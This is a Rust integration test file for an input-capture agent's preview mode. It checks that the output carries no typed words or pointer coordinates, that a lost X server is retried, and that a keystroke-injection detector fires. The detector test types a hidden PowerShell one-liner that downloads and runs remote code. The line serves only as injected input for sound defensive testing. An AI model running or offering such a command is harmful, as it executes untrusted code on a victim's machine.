//! `cadence-agent preview` against a real (virtual) X server: xdotool types an unusual word and
//! moves the mouse to distinctive positions; the agent's output must hold windows, and neither
//! the word nor any of the positions. Also: a lost X server is reported and retried, and the
//! agent keeps running.
//!
//! Needs `Xvfb` and `xdotool` (scripts/test.sh installs them); without them each test prints
//! why it was skipped.
#![cfg(target_os = "linux")]
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::print_stderr)]

mod support;

use std::io::{BufRead, BufReader, Read};
use std::process::{Command, Stdio};
use std::thread;
use std::time::Duration;

use cadence_wire::FeatureVector;
use support::{Xvfb, tools_present};

const WORD: &str = "zqxjvkwplm";
/// Absolute pointer positions visited (x, y), chosen to be unlike any plausible feature value.
const SPOTS: [(i32, i32); 4] = [(1111, 977), (1213, 851), (1049, 1003), (1187, 919)];

fn numbers(v: &serde_json::Value, out: &mut Vec<f64>) {
    match v {
        serde_json::Value::Number(n) => out.extend(n.as_f64()),
        serde_json::Value::Object(m) => m.values().for_each(|x| numbers(x, out)),
        serde_json::Value::Array(a) => a.iter().for_each(|x| numbers(x, out)),
        _ => {}
    }
}

#[test]
fn preview_captures_real_input_and_prints_neither_the_word_nor_positions() {
    if !tools_present("preview_captures_real_input") {
        return;
    }
    let x = Xvfb::start(&[]);
    let agent = Command::new(env!("CARGO_BIN_EXE_cadence-agent"))
        .args([
            "preview",
            "--window-secs",
            "30",
            "--min-keys",
            "30",
            "--min-mouse",
            "20",
            "--for",
            "9",
        ])
        .env("DISPLAY", &x.display)
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    thread::sleep(Duration::from_millis(800));
    for (sx, sy) in SPOTS {
        x.xdotool(&["type", "--delay", "140", &format!("{WORD} ")]);
        x.xdotool(&["mousemove", &sx.to_string(), &sy.to_string()]);
        for step in 0..12 {
            let d = if step % 2 == 0 { "3" } else { "-2" };
            x.xdotool(&["mousemove_relative", "--", d, "1"]);
        }
    }
    x.xdotool(&["click", "1"]);
    let out = agent.wait_with_output().unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "preview failed: {stderr}");
    let lines: Vec<&str> = stdout.lines().collect();
    assert!(!lines.is_empty(), "no window emitted; stderr: {stderr}");
    let mut keys = 0;
    let mut mouse = 0;
    for line in &lines {
        let v = FeatureVector::from_json(line).unwrap_or_else(|e| panic!("{e}: {line}"));
        keys += v.keys;
        mouse += v.mouse_events;
        let mut nums = Vec::new();
        numbers(&serde_json::from_str(line).unwrap(), &mut nums);
        for (sx, sy) in SPOTS {
            for c in [sx, sy] {
                assert!(
                    !nums.contains(&f64::from(c)),
                    "output carries coordinate {c}: {line}"
                );
            }
        }
    }
    assert!(
        keys >= 40,
        "expected the typed words in the windows, got {keys} key presses"
    );
    assert!(
        mouse >= 20,
        "expected the pointer motion in the windows, got {mouse} events"
    );
    for needle in [WORD, &WORD[..4], &WORD[3..7]] {
        assert!(!stdout.contains(needle), "output contains {needle:?}");
        assert!(!stderr.contains(needle), "log contains {needle:?}");
    }
}

#[test]
fn a_lost_x_server_is_reported_and_retried_and_capture_resumes() {
    if !tools_present("a_lost_x_server_is_reported_and_retried") {
        return;
    }
    let mut x = Xvfb::start(&[]);
    let display = x.display.clone();
    let mut agent = Command::new(env!("CARGO_BIN_EXE_cadence-agent"))
        .args([
            "preview",
            "--window-secs",
            "60",
            "--min-keys",
            "20",
            "--for",
            "14",
        ])
        .env("DISPLAY", &display)
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    thread::sleep(Duration::from_millis(800));
    x.kill();
    // The agent must survive the loss: still running a moment later.
    thread::sleep(Duration::from_millis(1500));
    assert!(
        agent.try_wait().unwrap().is_none(),
        "the agent exited when the X server went away"
    );
    // Bring a server back on the same display and type there: capture must resume.
    let x2 = Xvfb::start_on(&display, &[]);
    let mut stdout = BufReader::new(agent.stdout.take().unwrap());
    let typer = thread::spawn(move || {
        thread::sleep(Duration::from_millis(2500)); // the agent's first retry comes after 1 s
        for _ in 0..3 {
            x2.xdotool(&["type", "--delay", "140", "retry typing works "]);
        }
        x2
    });
    let mut line = String::new();
    stdout.read_line(&mut line).unwrap();
    let _x2 = typer.join().unwrap();
    let v = FeatureVector::from_json(line.trim()).unwrap_or_else(|e| panic!("{e}: {line:?}"));
    assert!(v.keys >= 20, "{v:?}");
    let status = agent.wait().unwrap();
    let mut err = String::new();
    agent
        .stderr
        .take()
        .unwrap()
        .read_to_string(&mut err)
        .unwrap();
    assert!(status.success(), "{err}");
    assert!(
        err.contains("lost the connection to the X server"),
        "the loss was not reported: {err}"
    );
    assert!(err.contains("retrying"), "{err}");
}

#[test]
fn preview_prints_a_guard_alert_for_injected_typing_and_none_for_paced_typing() {
    if !tools_present("preview_prints_a_guard_alert") {
        return;
    }
    let x = Xvfb::start(&[]);
    let agent = Command::new(env!("CARGO_BIN_EXE_cadence-agent"))
        .args([
            "preview",
            "--window-secs",
            "60",
            "--min-keys",
            "20",
            "--for",
            "8",
        ])
        .env("DISPLAY", &x.display)
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    thread::sleep(Duration::from_millis(800));
    // Paced typing first (a key every ~60 ms): no alert.
    x.xdotool(&["type", "--delay", "120", "paced typing stays quiet here"]);
    thread::sleep(Duration::from_millis(1500));
    // Then an injector: xdotool with no delay between keys.
    x.xdotool(&[
        "type",
        "--delay",
        "0",
        "powershell -w hidden -c iwr http://x/p | iex",
    ]);
    let out = agent.wait_with_output().unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    let alerts: Vec<serde_json::Value> = stdout
        .lines()
        .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
        .filter(|v| v["kind"] == "alert")
        .collect();
    assert_eq!(alerts.len(), 1, "expected exactly one alert, got: {stdout}");
    assert_eq!(alerts[0]["detector"], "keystroke_injection");
    assert!(
        alerts[0]["mean_interval_ms"].as_f64().unwrap() < 35.0,
        "{}",
        alerts[0]
    );
    assert!(!stdout.contains("powershell") && !stdout.contains("hidden"));
}
